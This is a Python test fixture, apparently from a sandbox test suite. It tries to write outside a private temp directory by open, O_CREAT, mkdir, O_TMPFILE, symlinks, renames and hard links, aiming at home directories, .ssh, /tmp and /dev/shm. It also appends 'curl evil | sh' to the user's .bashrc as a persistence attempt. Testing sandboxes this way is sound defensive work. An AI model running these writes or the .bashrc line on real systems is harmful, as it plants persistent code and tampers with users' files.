"""Plain Python file writes outside the private temp, by every route at hand.

Attack (own; the plain-Python twin of the pandas ``to_*`` dispatch files): ``open(..., 'w')``,
``os.open(O_CREAT)``, ``mkdir``, an ``O_TMPFILE`` linked into place, a symlink made in the
private temp and written through, a file made in the private temp then renamed or hard-linked
out, ``os.truncate`` and append on the canary file. Targets: canary folder and file, the CLI's
working directory, the user's home (``.bashrc``, ``.ssh/authorized_keys``), the orchestrator's
home, the CLI's TMPDIR, the worker's temp root (the parent of the private temp), /tmp,
/var/tmp, /dev/shm.
Stopped by: Landlock (all rights only beneath the private temp; REFER is handled, so nothing
can be renamed or linked out of it); DAC as uid 65534 for root-owned files.
"""

import os

PARAMETERS = {}

FOLDERS = [
    "@@CANARY_DIR@@",
    "@@CLI_CWD@@",
    "@@USER_HOME@@",
    "@@USER_HOME@@/.ssh",
    "@@RUN_HOME@@",
    "@@CLI_TMP@@",
    "/tmp",
    "/var/tmp",
    "/dev/shm",
]
NAME = "hostile-plain_write_files"


def _attempts(folder, here):
    target = os.path.join(folder, NAME)

    def write():
        with open(target, "w") as f:
            f.write("pwned")

    def create():
        os.close(os.open(target + ".fd", os.O_CREAT | os.O_WRONLY, 0o666))

    def mkdir():
        os.mkdir(target + ".d")

    def tmpfile():
        fd = os.open(folder, os.O_TMPFILE | os.O_WRONLY, 0o666)
        os.link(f"/proc/self/fd/{fd}", target + ".tmpfile")

    def symlink_through():
        link = os.path.join(here, "link-" + str(abs(hash(folder))))
        os.symlink(target + ".sym", link)
        with open(link, "w") as f:
            f.write("pwned")

    def rename_out():
        mine = os.path.join(here, "mine-" + str(abs(hash(folder))))
        with open(mine, "w") as f:
            f.write("pwned")
        os.rename(mine, target + ".renamed")

    def link_out():
        mine = os.path.join(here, "linked-" + str(abs(hash(folder))))
        with open(mine, "w") as f:
            f.write("pwned")
        os.link(mine, target + ".linked")

    return [write, create, mkdir, tmpfile, symlink_through, rename_out, link_out]


def _append(path, text):
    with open(path, "a") as f:
        f.write(text)


def generate_positions(data, **params):
    here = os.getcwd()
    folders = [*FOLDERS, os.path.dirname(here)]  # the worker's temp root
    escaped, blocked = [], 0
    for folder in folders:
        for attempt in _attempts(folder, here):
            try:
                attempt()
                escaped.append(f"{attempt.__name__}:{folder}")
            except Exception:
                blocked += 1
    for fn in (
        lambda: _append("@@CANARY_FILE@@", "pwned"),
        lambda: os.truncate("@@CANARY_FILE@@", 0),
        lambda: _append("@@USER_HOME@@/.bashrc", "curl evil | sh\n"),
    ):
        try:
            fn()
            escaped.append("canary/bashrc")
        except Exception:
            blocked += 1
    if escaped:
        raise RuntimeError("HOSTILE" + "-ESCAPED wrote " + " ".join(escaped))
    raise RuntimeError(f"all {blocked} writes outside the private temp were refused")
